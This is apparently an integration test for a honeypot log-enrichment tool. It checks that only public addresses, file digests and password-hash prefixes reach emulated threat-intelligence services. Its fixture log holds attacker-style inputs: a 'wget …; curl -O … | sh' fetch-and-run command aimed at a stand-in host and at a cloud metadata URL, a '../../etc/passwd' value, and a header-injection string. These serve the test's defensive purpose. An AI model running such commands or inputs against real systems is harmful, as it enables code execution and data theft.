"""Nothing private leaves, and nothing that a log names is fetched, over the whole job (promise P4).

Proved here, against emulated services that write down every byte that they are asked: of a log that is full of
addresses, names and URLs which must stay here, the public sources alone are asked about, with one exact request each;
of files and passwords the digests; and there is no connection to anything but the services. Not here: what the gate
refuses (`unit/test_gate`), each client on its own (`integration/test_gate_corpus`).
"""

from __future__ import annotations

import json
import re
import socket
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from hashlib import sha1, sha256
from ipaddress import ip_address
from typing import Any
from urllib.parse import urlsplit

import pytest

from cowrie_assets.cli.launch import Outcome
from cowrie_assets.cowrie.addresses import address as usual_form
from cowrie_assets.sandbox import whois
from cowrie_assets.sandbox.faults import Fault
from cowrie_assets.sandbox.server import Sandbox
from cowrie_assets.sandbox.vendor import Asked, Reply, Vendor
from cowrie_assets.sandbox.webservices import WebServices
from cowrie_assets_tests.conftest import Server
from cowrie_assets_tests.loglines import event, write_log
from cowrie_assets_tests.pipelines import KEYS, run_live
from cowrie_assets_tests.redis_server import running_redis
from cowrie_assets_tests.unit.test_gate import NEVER_LEAVE

# In every name, text and URL of the log.
NAMED = "never-asked"
HOST = f"{NAMED}.example.org"

# Of the sandbox's own networks, as far as they need be known.
PUBLIC = {
    "26.16.0.14", "26.16.1.233", "26.40.8.136", "26.72.16.131", "28.12.64.77", "28.33.128.5", "28.51.4.90",
    "28.65.96.88", "28.88.20.60", "28.108.40.246", "29.7.16.35", "29.19.200.1", "22.14.0.63", "22.46.64.76",
    "22.79.128.9", "223.255.255.255", "2a1f:a500::7", "2a1f:c100::1", "2606:4700:4700::1111", "2002:1a10:10e::1",
    "64:ff9b::1a10:10e",
}  # fmt: skip
# How logs spell some of them; asked is the usual form.
SPELT = {"26.16.0.14": "::ffff:26.16.0.14", "2a1f:a500::7": "2A1F:A500:0:0:0:0:0:7"}

CONFIGURED = ["9.9.9.9", "149.112.112.0/24", "2620:fe::/48", "::ffff:45.90.28.7"]
REACHED = ["192.99.44.21", "::ffff:51.79.10.11", "2607:5300:60::9"]  # public dst_ip of connects
OWN = [
    "9.9.9.9", "::ffff:9.9.9.9", "::FFFF:909:909", "2002:909:909::1", "64:ff9b::9.9.9.9",
    "149.112.112.112", "149.112.112.0", "::ffff:149.112.112.255", "2002:9570:7070:1::2",
    "2620:fe::9", "2620:FE:0:ffff::1", "45.90.28.7", "64:ff9b::2d5a:1c07",
    *REACHED, "51.79.10.11", "2607:5300:60:0:0:0:0:9", "64:ff9b::192.99.44.21", "2002:c063:2c15::", "::ffff:c063:2c15",
]  # fmt: skip
NO_SOURCES = [
    HOST,
    f"{NAMED}.localhost",
    "",
    "8.8.8.8.example.org",
    "8.8.8.8:22",
    "8.8.8.8/32",
    "[2620:fe::9]",
    "134744072",
]
NEVER = [address for addresses in NEVER_LEAVE.values() for address in addresses.split(" ")] + OWN + NO_SOURCES

URLS = [
    f"http://{HOST}/x",
    "http://10.0.0.7/",
    f"ftp://{NAMED}:pw@{HOST}/y",
    "http://169.254.169.254/latest/meta-data/",
]
# Public, and named in commands, URLs and forwardings only.
ONLY_NAMED = ["93.184.216.34", "2606:2800:220:1:248:1893:25c8:1946"]
USERS = [f"{NAMED}-user", f"http://{HOST}/user", "10.0.0.7", "93.184.216.34", f"{NAMED}@{HOST}"]
PASSWORDS = [
    f"{NAMED}-password", f"http://{HOST}/password", "10.0.0.7", "93.184.216.34", "ABCDE", "0" * 40, "f" * 64, "",
    "pässwörd ☃", "a/b?c#d%00", "../../etc/passwd", f"{NAMED}\nHost: {HOST}", "x" * 5000, " ",
]  # fmt: skip
EMPTY_FILE = sha256(b"").hexdigest()
FILES = [sha256(f"file {number}".encode()).hexdigest() for number in range(4)]
NO_FILES = [
    EMPTY_FILE,
    EMPTY_FILE.upper(),
    "d41d8cd98f00b204e9800998ecf8427e",
    FILES[0][:63],
    f"{FILES[0]}0",
    HOST,
    "../x",
]
TTY_LOG = sha256(b"a recording").hexdigest()

ALL_KEYS = {
    **KEYS,
    "GREYNOISE_API_KEY": "enterprise-x",
    "VT_API_KEY": "virustotal-key",
    "MAXMIND_ACCOUNT_ID": "123456",
    "MAXMIND_LICENSE_KEY": "license-key",
}
SERVICES = ("dshield", "urlhaus", "spur", "greynoise", "cymru", "virustotal", "hibp", "maxmind")
CONFIG = f"""
[[sensor]]
name = "alpha"
reported = ["alpha"]
own_addresses = {json.dumps(CONFIGURED)}

[services.greynoise]
plan = "paid"
rate = "1500/s"
""" + "".join(f'[services.{name}]\nrate = "1500/s"\n' for name in SERVICES if name != "greynoise")

Told = tuple[str, str, bytes]  # method, path with its query, body


@dataclass
class Heard:
    """What arrived at the services, to the byte, and where else this process wanted to go."""

    requests: dict[str, list[Told]] = field(default_factory=dict)
    headers: list[dict[str, str]] = field(default_factory=list)
    whois: list[bytes] = field(default_factory=list)
    elsewhere: list[str] = field(default_factory=list)
    # Where MaxMind's own answers lead.
    stores: set[int | None] = field(default_factory=set)

    def set_of(self, service: str) -> set[Told]:
        told = self.requests.get(service, [])
        assert len(told) == len(set(told)), f"{service} is asked something twice"
        return set(told)


@dataclass
class Ran:
    outcome: Outcome
    sandbox: Sandbox
    heard: Heard

    def rows(self, query: str) -> list[tuple[Any, ...]]:
        with self.outcome.database.hold(), self.outcome.database.connect() as connection:
            return connection.execute(query.encode()).fetchall()

    def keys(self, service: str) -> list[str]:
        return [key for arrival in self.sandbox.ledger.arrivals(service) for key in arrival.keys]


@pytest.fixture(scope="module")
def ran(tmp_path_factory: pytest.TempPathFactory, embedded_server: Server) -> Iterator[Ran]:
    """The whole job, once, over the log that names everything."""
    home = tmp_path_factory.mktemp("egress")
    (home / "sensors.toml").write_text(CONFIG)
    write_log(home / "logs" / "cowrie.json", log())
    url = embedded_server.new_database(migrated=False)
    with running_redis(home) as redis, Sandbox() as sandbox, pytest.MonkeyPatch.context() as patch:
        heard = Heard()
        listen(patch, heard)
        places = (sandbox.http_url, f"whois://{sandbox.whois_address}", redis.url)
        stay_at_home(patch, heard, {urlsplit(place).port for place in places})
        patch.setenv("COWRIE_REDIS_URL", redis.url)
        for name in ("VT_API_KEY", "MAXMIND_ACCOUNT_ID", "MAXMIND_LICENSE_KEY"):
            patch.delenv(name, raising=False)  # so that it is as before afterwards
        outcome = run_live(
            patch,
            home / "state",
            home / "logs",
            url=url,
            services=sandbox.environment(),
            keys=ALL_KEYS,
            config=home / "sensors.toml",
        )
        yield Ran(outcome, sandbox, heard)


def log() -> list[dict[str, Any]]:
    """A session from each address, and one that names everything which may be named."""
    events = []
    for number, source in enumerate([*sorted(PUBLIC), *NEVER]):
        session, written = f"s{number}", SPELT.get(source, source)
        events.append(event(session, number, src_ip=written, dst_ip=REACHED[number % 3] if number < 3 else "10.0.0.1"))
        events.append(event(session, number + 0.5, "session.closed", src_ip=written, duration=1))
    source, at = sorted(PUBLIC)[0], 1000
    events.append(event("named", at, src_ip=source, sensor="alpha"))

    def say(kind: str, **fields: Any) -> None:
        nonlocal at
        at += 1
        events.append(event("named", at, kind, src_ip=source, **fields))

    say("client.version", version=f"SSH-2.0-{HOST}")
    for user in USERS:
        say("login.failed", username=user, password=PASSWORDS[0])
    for password in PASSWORDS:
        say("login.failed", username="root", password=password)
    say("login.success", username="root", password=f"{NAMED}-success")
    for url in (*URLS, *(f"http://{text}/" for text in ("93.184.216.34", "[2606:2800:220:1:248:1893:25c8:1946]"))):
        say("command.input", input=f"wget {url}; curl -O {url} | sh")
        say("session.file_download.failed", url=url)
    for number, digest in enumerate([*FILES[:3], *NO_FILES]):
        say("session.file_download", url=URLS[number % len(URLS)], shasum=digest, outfile=f"/dl/{HOST}", destfile=HOST)
    say("session.file_upload", filename=f"{NAMED}.sh", shasum=FILES[3].upper(), outfile=f"/dl/{HOST}")
    # An address that is forwarded to is not the operator's own for that: else whoever attacks could hide others.
    for where in (HOST, "10.0.0.7", "9.9.9.9", "127.0.0.1", *ONLY_NAMED, *sorted(PUBLIC)):
        say("direct-tcpip.request", dst_ip=where, dst_port=443)
        say("direct-tcpip.data", dst_ip=where, dst_port=443, data=f"GET http://{HOST}/ HTTP/1.1")
    say("log.closed", ttylog=f"/tty/{TTY_LOG}", shasum=TTY_LOG, size=1, duplicate=False)
    say(f"{NAMED}.kind", url=URLS[0], src_host=HOST)
    say("session.closed", duration=10)
    return events


def listen(patch: pytest.MonkeyPatch, heard: Heard) -> None:
    """Write down what the services are asked, as they get it."""
    reply = WebServices._reply

    def told(self: WebServices, vendor: Vendor, asked: Asked) -> tuple[Reply, Fault | None]:
        path = f"{asked.path}?{asked.query}" if asked.query else asked.path
        heard.requests.setdefault(vendor.name, []).append((asked.method, path, asked.body))
        heard.headers.append(asked.headers)
        answer, fault = reply(self, vendor, asked)
        if vendor.name == "maxmind" and "location" in answer.headers:
            heard.stores.add(urlsplit(answer.headers["location"]).port)
        return answer, fault

    class Reader:
        def __init__(self, reader: Any) -> None:
            self._reader = reader

        async def readline(self) -> bytes:
            line: bytes = await self._reader.readline()
            heard.whois.append(line)
            return line

    patch.setattr(WebServices, "_reply", told)
    read: Callable[[Any], Any] = whois._read
    patch.setattr(whois, "_read", lambda reader: read(Reader(reader)))


def stay_at_home(patch: pytest.MonkeyPatch, heard: Heard, ports: set[int | None]) -> None:
    """No name is looked up, and no connection made, but to the services and Redis; PostgreSQL's library has its own."""
    connect, connect_ex, look_up = socket.socket.connect, socket.socket.connect_ex, socket.getaddrinfo

    def check(where: Any) -> None:
        host, port = where[:2] if isinstance(where, tuple) else (where, None)
        if host != "127.0.0.1" or port not in ports | heard.stores:
            heard.elsewhere.append(str(where))
            raise OSError(f"a connection to {where}")

    def checked_connect(self: socket.socket, where: Any) -> None:
        check(where)
        connect(self, where)

    def checked_connect_ex(self: socket.socket, where: Any) -> int:
        check(where)
        return connect_ex(self, where)

    def checked_look_up(host: Any, port: Any, *rest: Any, **more: Any) -> Any:
        if host != "127.0.0.1":
            heard.elsewhere.append(f"the address of {host}")
            raise socket.gaierror(f"the address of {host}")
        return look_up(host, port, *rest, **more)

    def refused(*words: Any, **_: Any) -> Any:
        heard.elsewhere.append(str(words))
        raise OSError(f"a connection: {words}")

    patch.setattr(socket.socket, "connect", checked_connect)
    patch.setattr(socket.socket, "connect_ex", checked_connect_ex)
    patch.setattr(socket.socket, "sendto", refused)
    patch.setattr(socket, "getaddrinfo", checked_look_up)
    for name in ("gethostbyname", "gethostbyname_ex", "gethostbyaddr", "getnameinfo"):
        patch.setattr(socket, name, refused)
    # Nor does anything else go there for us.
    patch.setattr(subprocess.Popen, "__init__", refused)


def test_the_job_runs_through(ran: Ran) -> None:
    assert ran.outcome.failed_steps == []
    for service, told in ran.sandbox.summary().items():
        assert told["over_limit"] == told["repeated_keys"] == 0, service


def test_the_log_is_all_there(ran: Ran) -> None:
    """Else there was nothing that could have left."""
    stored = {str(ip_address(text)) for (text,) in ran.rows("SELECT host(ip_address) FROM ip_inventory")}
    assert stored == {usual for text in [*PUBLIC, *NEVER] if (usual := usual_form(text)) is not None}
    assert ran.rows("SELECT count(*)::int FROM sessions") == [(len(PUBLIC) + len(NEVER) + 1,)]
    assert ran.rows("SELECT count(DISTINCT password)::int FROM logins")[0][0] == len(PASSWORDS) + 1
    digests = {text for (text,) in ran.rows("SELECT lower(sha256) FROM files WHERE sha256 IS NOT NULL")}
    assert {*FILES, EMPTY_FILE} <= digests


def test_public_sources_alone_are_asked_about(ran: Ran) -> None:
    """Private addresses sent to third parties."""
    four = {address for address in PUBLIC if ip_address(address).version == 4}
    for service in ("dshield", "spur", "cymru"):
        assert sorted(ran.keys(service)) == sorted(PUBLIC), service
    for service in ("urlhaus", "greynoise"):
        assert sorted(ran.keys(service)) == sorted(four), service


def test_each_request_says_what_it_must_and_no_more(ran: Ran) -> None:
    four = {address for address in PUBLIC if ip_address(address).version == 4}
    heard = ran.heard
    assert heard.set_of("dshield") == {("GET", f"/api/ip/{address}?json", b"") for address in PUBLIC}
    assert heard.set_of("spur") == {("GET", f"/v2/context/{address}", b"") for address in PUBLIC}
    assert heard.set_of("urlhaus") == {("POST", "/v1/host/", f"host={address}".encode()) for address in four}
    ((method, path, body),) = heard.set_of("greynoise")
    assert (method, path) == ("POST", "/v3/ip?quick=false")
    assert set(json.loads(body)) == {"ips"}
    assert sorted(json.loads(body)["ips"]) == sorted(four)
    assert {line.decode().strip() for line in heard.whois} == PUBLIC | {"begin", "verbose", "end"}


def test_of_files_and_passwords_only_digests_leave(ran: Ran) -> None:
    assert ran.heard.set_of("virustotal") == {("GET", f"/api/v3/files/{digest}", b"") for digest in FILES}
    used = [*PASSWORDS, f"{NAMED}-success"]
    ranges = {sha1(password.encode()).hexdigest()[:5].upper() for password in used}
    assert {path for _, path, _ in ran.heard.set_of("hibp")} == {f"/range/{digits}" for digits in ranges}
    assert {(method, body) for method, _, body in ran.heard.set_of("hibp")} == {("GET", b"")}


def test_what_is_fetched_is_the_same_whatever_a_log_says(ran: Ran) -> None:
    assert ran.heard.set_of("feeds") == {("GET", "/tor-exits.txt", b""), ("GET", "/clouds.csv", b"")}
    for _, path, body in ran.heard.set_of("maxmind") | ran.heard.set_of("dbip"):
        assert body == b""
        assert re.fullmatch(
            r"/geoip/updates/metadata\?edition_id=GeoLite2-(City|ASN)"
            r"|/geoip/databases/GeoLite2-(City|ASN)/download\?date=[0-9]{8}&suffix=tar\.gz"
            r"|/GeoLite2-(City|ASN)_[0-9]{8}\.tar\.gz\?X-Amz-[A-Za-z0-9=&-]+",
            path,
        ), path
    assert {arrival.service for arrival in ran.sandbox.ledger.arrivals()} == {*SERVICES, "feeds"}


def test_headers_name_us_and_our_keys_and_nothing_of_the_log(ran: Ran) -> None:
    known = {"host", "accept", "accept-encoding", "connection", "user-agent", "content-length", "content-type"}
    keys = {"auth-key", "token", "key", "x-apikey", "authorization", "add-padding"}
    for headers in ran.heard.headers:
        assert set(headers) <= known | keys
        assert headers["user-agent"] == "cowrie-assets (+operator@example.org)"
        assert headers["host"].partition(":")[0] == "127.0.0.1"
        assert headers.get("content-type", "") in ("", "application/json", "application/x-www-form-urlencoded")
        assert NAMED not in str(headers)


def test_nothing_that_the_log_names_is_fetched_or_looked_up(ran: Ran) -> None:
    assert ran.heard.elsewhere == []
    everything = str((ran.heard.requests, ran.heard.whois))
    assert NAMED not in everything
    for text in (*ONLY_NAMED, EMPTY_FILE, TTY_LOG, "10.0.0.7", "root"):
        assert text not in everything, text


def test_our_own_ledger_names_nothing_else_either(ran: Ran) -> None:
    asked = ran.rows("SELECT service, key FROM lookup_ledger")
    addresses = {key for service, key in asked if service in ("dshield", "urlhaus", "spur", "greynoise", "cymru")}
    assert addresses <= PUBLIC
    assert {key for service, key in asked if service == "virustotal"} == set(FILES)
    assert all(re.fullmatch("[0-9A-F]{5}", key) for service, key in asked if service == "hibp")
